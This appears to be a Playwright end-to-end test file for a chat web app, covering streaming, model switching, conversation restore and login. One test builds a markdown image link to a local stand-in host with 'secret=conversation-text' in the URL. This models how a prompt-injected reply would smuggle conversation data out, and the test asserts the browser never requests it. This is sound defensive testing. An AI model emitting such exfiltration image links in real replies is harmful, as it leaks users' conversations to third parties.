"""End to end in headless Chromium: stream, switch model, reload, restore; saves the README shot."""

from __future__ import annotations

import os
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from devtools.processes import ServerProcess
from tests.chat.stack import ECHO, GEMINI_API, REPLY, ROOT, USERS

CHROMIUM = "/usr/bin/chromium"
SCREENSHOT = ROOT / "docs" / "chat-screenshot.png"
FIRST = "What is Gemma, and where does this stack run it?"
SECOND = "Summarize that in one sentence."
# Records every length the last reply bubble goes through, to see tokens arrive one by one.
RECORD_STREAM = """
() => {
  window.__replyLengths = [];
  const observer = new MutationObserver(() => {
    const bots = document.querySelectorAll('.message.bot');
    if (bots.length) window.__replyLengths.push(bots[bots.length - 1].innerText.trim().length);
  });
  observer.observe(document.body, {subtree: true, childList: true, characterData: true});
}
"""


@pytest.fixture
def page(chat_app: ServerProcess) -> Iterator[Page]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install -y chromium")
    with sync_playwright() as driver:
        browser = driver.chromium.launch(
            executable_path=CHROMIUM,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        context = browser.new_context(viewport={"width": 1360, "height": 860})
        yield context.new_page()
        context.close()
        browser.close()


def open_app(page: Page, url: str) -> None:
    page.goto(url)
    # The load event has run once the sidebar says whose conversations these are.
    page.get_by_text("Conversations are kept for this browser.").wait_for(timeout=60_000)


def ask(page: Page, question: str, replies_before: int) -> None:
    box = page.get_by_placeholder("Ask anything…")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "([n, reply]) => { const b = document.querySelectorAll('.message.bot');"
        " return b.length > n && b[b.length - 1].innerText.trim() === reply; }",
        arg=[replies_before, REPLY],
        timeout=60_000,
    )


@pytest.mark.browser
def test_chat_in_a_real_browser(
    page: Page, chat_app: ServerProcess, tmp_path_factory: pytest.TempPathFactory
) -> None:
    open_app(page, chat_app.url)
    page.evaluate(RECORD_STREAM)
    ask(page, FIRST, 0)
    lengths = page.evaluate("window.__replyLengths")
    partial = sorted({n for n in lengths if 0 < n < len(REPLY)})
    assert len(partial) >= 3, f"the reply did not stream: lengths seen {lengths}"
    expect(page.get_by_placeholder("Ask anything…")).to_have_value("", timeout=5_000)

    # Switch model mid-conversation: the same conversation continues on the other backend.
    page.get_by_role("combobox", name="Model", exact=True).click()
    page.get_by_role("option", name=GEMINI_API).click()
    ask(page, SECOND, 1)
    assert page.locator(".message.user").count() == 2

    # A reload starts a new page session; the browser keeps its id, so the chat is listed.
    page.reload()
    open_app(page, chat_app.url)
    assert page.locator(".message.bot").count() == 0
    page.get_by_label(FIRST).check()
    page.wait_for_function("() => document.querySelectorAll('.message.bot').length === 2")
    texts = page.locator(".message").all_inner_texts()
    assert FIRST in texts[0]
    assert SECOND in "".join(texts)
    assert page.get_by_role("combobox", name="Model", exact=True).input_value() == GEMINI_API

    shot = tmp_path_factory.mktemp("browser") / "chat-screenshot.png"
    page.screenshot(path=str(shot))
    if not SCREENSHOT.exists() or os.environ.get("UPDATE_CHAT_SCREENSHOT") == "1":
        shutil.copyfile(shot, SCREENSHOT)


class ImageHost:
    """Another origin serving a 1x1 image, counting every request: where a leak would go."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        host = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                return

            def do_GET(self) -> None:
                host.requests.append(self.path)
                gif = bytes.fromhex(
                    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
                )
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(gif)))
                self.end_headers()
                self.wfile.write(gif)

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.mark.browser
def test_an_external_image_in_a_reply_is_never_requested(
    page: Page, chat_app: ServerProcess
) -> None:
    host = ImageHost()
    try:
        # A prompt-injected reply would hide data in an image URL; the echo model repeats it.
        leak = f"{host.url}/leak.gif?secret=conversation-text"
        # The image host works: a page of its own origin may load it.
        page.goto(leak)
        assert "/leak.gif?secret=conversation-text" in host.requests
        host.requests.clear()

        open_app(page, chat_app.url)
        page.get_by_role("combobox", name="Model", exact=True).click()
        page.get_by_role("option", name=ECHO).click()
        box = page.get_by_placeholder("Ask anything…")
        box.fill(f"Show this: ![status]({leak})")
        box.press("Enter")
        # The reply renders the image element; the browser settles it (blocked) without a fetch.
        page.wait_for_function(
            "(url) => { const imgs = [...document.querySelectorAll('.message.bot img')]"
            ".filter(i => i.getAttribute('src') === url);"
            " return imgs.length > 0 && imgs.every(i => i.complete); }",
            arg=leak,
            timeout=60_000,
        )
        assert page.locator(".message.bot img").count() >= 1
        leaked = [path for path in host.requests if path.startswith("/leak.gif")]
        assert leaked == [], f"the browser fetched {leaked}"
    finally:
        host.stop()


@pytest.mark.browser
def test_login_mode_signs_in_through_its_own_page(
    page: Page, login_chat_app: ServerProcess
) -> None:
    page.goto(login_chat_app.url)
    page.wait_for_url("**/login")
    page.get_by_label("User name").fill("alice")
    page.get_by_label("Password").fill("not her password")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_text("Wrong user name or password.")).to_be_visible(timeout=30_000)
    page.get_by_label("User name").fill("alice")
    page.get_by_label("Password").fill(USERS["alice"])
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("Signed in as alice").wait_for(timeout=60_000)
    ask(page, FIRST, 0)
    page.get_by_text("Sign out", exact=True).click()
    page.wait_for_url("**/login")
    page.goto(login_chat_app.url)
    page.wait_for_url("**/login")
